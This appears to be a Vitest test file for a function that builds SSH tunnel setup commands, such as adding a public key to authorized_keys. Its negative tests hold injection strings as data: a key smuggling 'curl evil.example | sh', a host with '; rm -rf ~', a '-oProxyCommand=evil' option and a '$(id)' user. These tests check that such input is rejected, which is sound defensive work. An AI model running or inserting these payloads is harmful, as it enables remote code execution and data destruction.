import { describe, expect, it } from 'vitest';
import { toId } from '../../domain/entities/id.ts';
import type { Tunnel } from '../../domain/entities/tunnel.ts';
import { hostCommands } from './tunnelCommands.ts';

const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample= millrace';
const tunnel = (rest: Partial<Tunnel>): Tunnel => ({
  id: toId(1),
  name: 'Office',
  type: 1,
  setupCompleted: false,
  isActive: false,
  ...rest,
});
const commands = (rest: Partial<Tunnel>) => hostCommands(tunnel(rest)).map(({ command }) => command);

describe('hostCommands', () => {
  it('authorises the key of an SSH tunnel, on Linux and on Windows', () => {
    expect(commands({ sshPublicKey: key })).toEqual([
      `mkdir -p ~/.ssh && echo '${key}' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys`,
      `Add-Content -Path "$env:USERPROFILE\\.ssh\\authorized_keys" -Value '${key}'`,
    ]);
  });

  it('connects from the customer’s side for a reverse tunnel', () => {
    const [command] = commands({ type: 2, sshHost: 'tunnels.example', sshPort: 40122, sshUser: 'ubuntu' });
    expect(command).toContain('-p 40122 ubuntu@tunnels.example');
  });

  it.each([
    `${key}'; curl evil.example | sh; '`,
    `${key}\nssh-ed25519 AAAA other`,
    "ssh-ed25519 AAAA' -Value 'x",
    'not a key',
    '',
  ])('gives no command for an invalid public key: %j', (sshPublicKey) => {
    expect(commands({ sshPublicKey })).toEqual([]);
  });

  it.each([
    { sshHost: 'a.example; rm -rf ~' },
    { sshHost: '-oProxyCommand=evil' },
    { sshUser: '$(id)' },
    { sshHost: null },
  ])('gives no command for an invalid host: %j', (place) => {
    expect(commands({ type: 2, sshHost: 'a.example', sshPort: 22, sshUser: 'ubuntu', ...place })).toEqual([]);
  });

  it('gives no commands for WireGuard', () => {
    expect(commands({ type: 0 })).toEqual([]);
  });
});
